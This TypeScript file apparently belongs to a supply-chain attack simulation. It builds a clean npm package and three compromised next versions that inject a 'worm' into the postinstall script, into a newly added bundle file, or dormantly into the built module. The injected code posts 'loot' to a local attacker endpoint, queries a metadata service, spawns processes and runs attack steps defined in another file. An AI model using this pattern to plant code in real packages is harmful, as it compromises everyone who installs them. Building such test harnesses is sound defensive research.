/** The packages of the story: a clean one, another beside it, and the compromised next versions of the clean one. */
import type { Package } from "./registry.ts";
import { type Step, steps } from "./steps.ts";

const CLEAN_BUILD = "require('fs').writeFileSync(__dirname + '/built.js', 'module.exports = 42\\n')\n";

export const clean: Package = {
  manifest: { name: "pretty", version: "1.0.0", main: "built.js", scripts: { postinstall: "node build.js" } },
  files: { "build.js": CLEAN_BUILD },
};

export const neighbour: Package = {
  manifest: { name: "neighbour", version: "1.0.0", main: "index.js" },
  files: { "index.js": "module.exports = 1\n" },
};

export interface Targets {
  readonly attacker: number;
  readonly metadata: number;
  readonly registry: string;
}

/** The next version, which does everything, or only these steps, in the install script that existed before. */
export function takenOver(targets: Targets, chosen: readonly Step[] = steps): Package {
  const files = { "build.js": CLEAN_BUILD + worm(targets, chosen) };
  return { manifest: { ...clean.manifest, version: "1.0.1" }, files };
}

/** The next version, which adds a file and makes it the install script. */
export function withBundle(targets: Targets): Package {
  const manifest = { ...clean.manifest, version: "1.0.1", scripts: { postinstall: "node bundle.js" } };
  return { manifest, files: { "build.js": CLEAN_BUILD, "bundle.js": CLEAN_BUILD + worm(targets) } };
}

/** The next version, which does nothing when it is installed, and everything when it is used. */
export function dormant(targets: Targets): Package {
  const build = `require('fs').writeFileSync(__dirname + '/built.js', ${JSON.stringify(`module.exports = 42\n${worm(targets)}`)})\n`;
  return { manifest: { ...clean.manifest, version: "1.0.1" }, files: { "build.js": build } };
}

/** The result of a step: `done`, or the code of its error. */
export type Told = Readonly<Record<string, string>>;

/** Reads the output of the worm; nothing if it never ran. */
export function told(stdout: string): Told | undefined {
  const [, line] = /^TOLD (.*)$/m.exec(stdout) ?? [];
  return line === undefined ? undefined : (JSON.parse(line) as Told);
}

/** Every step one after the other, each on its own, as worms are written: a step that fails is skipped. */
function worm({ attacker, metadata, registry }: Targets, chosen: readonly Step[] = steps): string {
  const list = chosen.map(({ name, code }) => `[${JSON.stringify(name)}, async () => {${code}}]`).join(",\n");
  return `;(() => {
const fs = require('fs'), path = require('path'), http = require('http'), cp = require('child_process')
const home = process.env.HOME, project = process.env.INIT_CWD || process.cwd()
const host = 'http://127.0.0.1:${attacker}', registry = '${registry}', metadata = 'http://127.0.0.1:${metadata}'
const loot = {}
let scanner
const ask = (method, url, body) => new Promise((resolve, reject) => {
  const request = http.request(url, { method, agent: false }, (response) => {
    const parts = []
    response.on('data', (part) => parts.push(part)).on('end', () => resolve(Buffer.concat(parts)))
  })
  request.on('error', reject).end(body)
})
const get = (where) => ask('GET', host + where)
const post = (where, body) => ask('POST', host + where, body)
const put = (url) => ask('PUT', url, '{}')
const run = (program, words, stdio = 'pipe') => {
  const { error, stdout } = cp.spawnSync(program, words, { encoding: 'utf8', stdio })
  if (error) throw error
  return stdout
}
const steps = [${list}]
;(async () => {
  const told = {}
  for (const [name, step] of steps) {
    try { await step(); told[name] = 'done' } catch (error) { told[name] = error.code || String(error) }
  }
  fs.writeSync(1, 'TOLD ' + JSON.stringify(told) + '\\n')
})()
})()
`;
}
